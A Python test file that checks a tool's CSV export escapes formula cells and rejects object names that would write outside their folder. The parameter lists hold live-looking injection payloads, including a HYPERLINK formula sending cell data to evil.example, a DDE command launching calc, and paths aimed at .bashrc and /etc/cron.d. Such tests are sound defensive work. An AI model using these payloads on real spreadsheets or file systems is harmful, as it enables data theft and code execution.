"""Attacks by names of objects on the files that commands write: formulas in CSV, and paths out of a folder."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import msgspec
import pytest

import trimtab
from harness.builders.records import workload
from store.builders import entry
from trimtab.atomic_write import check_file_name
from trimtab.cli.history import _render_csv
from trimtab.csv_cells import escape_cells
from trimtab.errors import TrimtabError
from trimtab.scan.patches.patch_folder import build_file_name

FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "＝1+1",  # noqa: RUF001 - a full-width sign, which spreadsheets take too
)
SOURCES = Path(trimtab.__file__).parent


@pytest.mark.parametrize("formula", FORMULAS)
def test_history_csv_has_no_cell_that_is_a_formula(formula: str) -> None:
    row = msgspec.structs.replace(entry(1), who=formula, why=formula, name=formula)
    _, cells = csv.reader(io.StringIO(_render_csv([row])))
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "＝"))]  # noqa: RUF001
    assert f"'{formula}" in cells


def test_csv_cells_keep_numbers_and_plain_text() -> None:
    row = ["web", -1.5, "-1.5", "+3e4", None, "a=b", ""]
    assert escape_cells(row) == row


def test_csv_writers_escape_their_cells() -> None:
    writers = [path for path in SOURCES.rglob("*.py") if "csv.writer(" in path.read_text()]
    assert len(writers) >= 5
    assert [
        path.name
        for path in writers
        if "escape_cells(" not in path.read_text().replace("map(escape_cells, ", "escape_cells(")
    ] == []
    assert not [path.name for path in SOURCES.rglob("*.py") if "DictWriter" in path.read_text()]


@pytest.mark.parametrize("name", ["../../.bashrc", "a/b", "..\\evil", "/etc/cron.d/x", "x\0y", ".."])
def test_file_name_of_an_object_cannot_leave_its_folder(name: str) -> None:
    with pytest.raises(TrimtabError, match="leads out of the folder"):
        check_file_name(name)
    hostile = msgspec.structs.replace(workload("web", containers=({"name": "app"},)), name=name, namespace="")
    if name != "..":
        with pytest.raises(TrimtabError, match="leads out of the folder"):
            build_file_name(hostile)


def test_file_name_of_a_real_object_is_kept() -> None:
    assert check_file_name("shop.deployment.web-1.example.yaml") == "shop.deployment.web-1.example.yaml"
